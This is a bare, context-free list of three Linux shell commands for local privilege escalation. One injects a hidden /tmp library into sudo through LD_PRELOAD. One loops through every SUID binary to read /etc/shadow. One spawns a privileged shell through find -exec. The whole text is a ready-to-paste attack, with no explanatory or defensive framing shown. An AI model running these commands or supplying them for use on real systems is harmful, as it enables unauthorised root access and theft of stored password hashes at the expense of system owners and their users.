LD_PRELOAD=/tmp/.l.so /usr/bin/sudo -l
find / -perm -4000 -type f 2>/dev/null | while read s; do "$s" -p -c 'cat /etc/shadow' 2>/dev/null; done
/usr/bin/find . -exec /bin/sh -p \; -quit
